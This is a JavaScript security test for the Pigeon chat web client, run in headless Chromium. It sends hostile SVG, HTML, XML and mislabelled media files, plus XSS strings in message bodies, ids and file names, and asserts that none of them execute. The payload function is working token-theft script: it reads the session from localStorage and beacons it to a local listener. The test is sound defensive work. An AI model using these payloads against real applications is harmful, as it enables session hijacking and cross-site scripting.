// security.test.js — hostile files against the web client, in real headless Chromium
// against a real Pigeon server (password mode). A sender on a raw WebSocket (no web
// client: it claims whatever mime it likes) sends an SVG, an HTML page, an XHTML/XML
// document, an HTML page labelled image/png and one labelled video/webm (played from the
// server's link), each carrying a script that would mark
// the page's storage and send the session token to a listener this test runs. The
// recipient's page then opens each file in every way the UI offers (the preview link, the
// download link, each link opened in a new tab, as a middle click would, and the server
// link a <video> played) and the test
// asserts that no script ran and the listener heard nothing.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import {
  PigeonServer, PASSWORD, launchBrowser, openClient, signIn, openChat, sleep,
} from './harness.js';
import { RawWs } from './rawws.js';

let server;
let browser;
let exfil;
const heard = []; // every request the "attacker's" listener received

before(async () => {
  server = new PigeonServer();
  await server.addUsers(['mallory', 'vera', 'walt']);
  await server.start();
  browser = await launchBrowser();
  exfil = createServer((req, res) => { heard.push(`${req.method} ${req.url}`); res.end('ok'); });
  await new Promise((r) => exfil.listen(0, '127.0.0.1', r));
});

after(async () => {
  await browser?.close();
  await server?.stop();
  exfil?.close();
});

/** What a hostile file runs if it ever gets the chance: mark, then steal the token. */
function payload(tag) {
  const to = `http://127.0.0.1:${exfil.address().port}/${tag}`;
  return `try { localStorage.setItem('pwned-${tag}', '1'); } catch (e) {}
var t = ''; try { t = String(localStorage.getItem('pigeon:v1:session')); } catch (e) {}
try { fetch('${to}/fetch?t=' + encodeURIComponent(t), { mode: 'no-cors' }).catch(function () {}); } catch (e) {}
try { new Image().src = '${to}/img?t=' + encodeURIComponent(t); } catch (e) {}
try { if (navigator.sendBeacon) navigator.sendBeacon('${to}/beacon', t); } catch (e) {}
try { if (window.parent) window.parent.postMessage('pwned-${tag}', '*'); } catch (e) {}
setTimeout(function () { location.href = '${to}/nav?t=' + encodeURIComponent(t); }, 300);`;
}

const hostileFiles = () => [
  { name: 'cute-cat.svg', mime: 'image/svg+xml', tag: 'svg',
    text: `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="orange"/><script><![CDATA[${payload('svg')}]]></script></svg>` },
  { name: 'invoice.html', mime: 'text/html', tag: 'html',
    text: `<!doctype html><title>invoice</title><p>Invoice</p><script>${payload('html')}</script>` },
  { name: 'data.xml', mime: 'application/xml', tag: 'xml',
    text: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>data</p><script><![CDATA[${payload('xml')}]]></script></body></html>` },
  { name: 'photo.png', mime: 'image/png', tag: 'png',
    text: `<!doctype html><p>not a png</p><script>${payload('png')}</script>` },
  // Played from the server's link (/api/blobs/...) like any received video.
  { name: 'movie.webm', mime: 'video/webm', tag: 'webm',
    text: `<!doctype html><p>not a video</p><script>${payload('webm')}</script>` },
];
// Labelled as a type the client previews: handed out as that type, but never as a page.
const labelledMedia = new Set(['png', 'webm']);

/** The sender: logs in over a raw WebSocket and sends every hostile file to `to`. */
async function sendHostileFiles(to) {
  const ws = await RawWs.open(`${server.url.replace('http', 'ws')}/ws`);
  ws.sendJson({ type: 'login', user: 'mallory', password: PASSWORD });
  await ws.expect('synced');
  for (const f of hostileFiles()) {
    const sent = await ws.sendFile({ id: `evil-${f.tag}-${to}`, to, name: f.name, mime: f.mime, bytes: Buffer.from(f.text) });
    assert.ok(['delivered', 'stored'].includes(sent.status), JSON.stringify(sent));
  }
  ws.close();
}

/** Pages and downloads the context produced within `ms` after `act`. */
async function opened(context, page, act, ms = 1500) {
  const pages = []; const downloads = [];
  const onPage = (p) => pages.push(p);
  const onDownload = (d) => downloads.push(d);
  context.on('page', onPage);
  page.on('download', onDownload);
  await act().catch(() => {});
  await sleep(ms);
  context.off('page', onPage);
  page.off('download', onDownload);
  for (const p of pages) p.on('download', (d) => downloads.push(d));
  return { pages, downloads };
}

async function markers(page) {
  return page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('pwned-')));
}

for (const order of ['online', 'offline']) {
  test(`hostile files (${order} recipient): no way of opening them runs their script or leaks the token`, async () => {
    const victim = order === 'online' ? 'vera' : 'walt';
    const v = await openClient(browser, server);
    const postMessages = [];
    await v.page.exposeFunction('__sawMessage', (m) => postMessages.push(m));
    const serverLinks = new Set();
    v.page.on('request', (r) => { if (new URL(r.url()).pathname.startsWith('/api/blobs/')) serverLinks.add(r.url()); });
    try {
      if (order === 'online') await signIn(v.page, victim);
      else await v.page.fill('#signin-name', victim); // not signed in yet: the files are stored
      await sendHostileFiles(victim);
      if (order === 'offline') await signIn(v.page, victim);
      await v.page.evaluate(() => window.addEventListener('message', (e) => window.__sawMessage(String(e.data))));
      await openChat(v.page, 'mallory');
      const files = hostileFiles();
      for (const f of files) {
        await v.page.locator('#messages li.msg .file-name', { hasText: f.name }).waitFor({ timeout: 15000 });
      }
      // Every file completes with a download link once its bytes are kept.
      await v.page.waitForFunction((n) => document.querySelectorAll('#messages a.file-download').length === n, files.length, { timeout: 15000 });

      const popups = [];
      const types = [];
      const previews = [];
      for (const f of files) {
        const item = v.page.locator('#messages li.msg', { has: v.page.locator('.file-name', { hasText: f.name }) });
        const links = item.locator('a');
        const n = await links.count();
        assert.ok(n >= 1, `${f.name} offers at least a download link`);
        for (let i = 0; i < n; i += 1) {
          const link = links.nth(i);
          const href = await link.getAttribute('href');
          // 1. A click, as the UI offers it.
          const clicked = await opened(v.context, v.page, () => link.click());
          popups.push(...clicked.pages);
          // 2. The same link opened in a new tab (middle click / "Open link in new tab").
          const tab = await opened(v.context, v.page, () => v.page.evaluate((h) => { window.open(h, '_blank'); }, href));
          popups.push(...tab.pages);
        }

        // Anything not previewed is handed out as plain bytes, never as an active type.
        const kind = await item.locator('a.file-download').evaluate(async (a) => (await (await fetch(a.href)).blob()).type);
        if (!labelledMedia.has(f.tag)) types.push([f.name, kind]);
        // No preview of a sender's active content: no <img>, <object>, <iframe>, <embed> for it.
        if (!labelledMedia.has(f.tag)) previews.push([f.name, await item.locator('img, object, iframe, embed, svg, video, audio').count()]);
      }
      // The server links the page played (the "video"), each opened in a tab of its own.
      assert.ok(serverLinks.size >= 1, 'the labelled video was played from the server');
      for (const href of serverLinks) {
        const tab = await opened(v.context, v.page, () => v.page.evaluate((h) => { window.open(h, '_blank'); }, href));
        popups.push(...tab.pages);
      }
      await sleep(1000);
      assert.deepEqual(heard.map((h) => h.replace(/\?.*/, '')), [], 'nothing reached the attacker\'s listener (the token never left)');
      assert.deepEqual(await markers(v.page), [], 'no hostile script ran in Pigeon\'s origin');
      assert.deepEqual(postMessages, [], 'no hostile script talked to the page');
      for (const p of popups) {
        if (!p.isClosed()) assert.ok(!p.url().includes(`127.0.0.1:${exfil.address().port}`), `a popup went to ${p.url()}`);
      }
      assert.deepEqual(previews, previews.map(([n]) => [n, 0]), 'no preview of a sender\'s active content');
      assert.deepEqual(types, types.map(([n]) => [n, 'application/octet-stream']), 'files not previewed are handed out as bytes');
      // The page itself still works: its session is intact.
      assert.equal(await v.page.getAttribute('#conn-pill', 'data-state'), 'online');
      for (const p of popups) if (!p.isClosed()) await p.close();
    } finally {
      await v.context.close();
    }
  });
}

test('names, ids and bodies from a hostile sender stay text everywhere they are shown', async () => {
  const v = await openClient(browser, server);
  try {
    await signIn(v.page, 'vera');
    const ws = await RawWs.open(`${server.url.replace('http', 'ws')}/ws`);
    ws.sendJson({ type: 'login', user: 'mallory', password: PASSWORD });
    await ws.expect('synced');
    const evil = '<img src=x onerror="localStorage.setItem(\'pwned-body\',1)"><b>bold</b>';
    ws.sendJson({ type: 'send', id: '<img src=x onerror=alert(1)>', to: 'vera', body: evil });
    await ws.expect('sent');
    ws.sendJson({ type: 'send', id: 'json-body', to: 'vera', body: { html: evil } });
    await ws.expect('sent');
    await ws.sendFile({ id: 'name-1', to: 'vera', name: '<img src=x onerror="localStorage.setItem(\'pwned-name\',1)">.txt', mime: 'text/plain<script>', bytes: Buffer.from('hello') });
    ws.close();
    await v.page.locator('#conversations li[data-peer="mallory"] .conv-preview').waitFor();
    await openChat(v.page, 'mallory');
    await v.page.locator('#messages li.msg .file-name').waitFor();
    assert.equal(await v.page.locator('#messages li.msg .body').first().textContent(), evil);
    assert.equal(await v.page.locator('#messages img, #messages b, #conversations img, #conversations b, #peer-name *').count(), 0, 'no markup from a sender in the page');
    await sleep(300);
    assert.deepEqual(await markers(v.page), []);
    assert.deepEqual(v.page.dialogs, []);
  } finally {
    await v.context.close();
  }
});
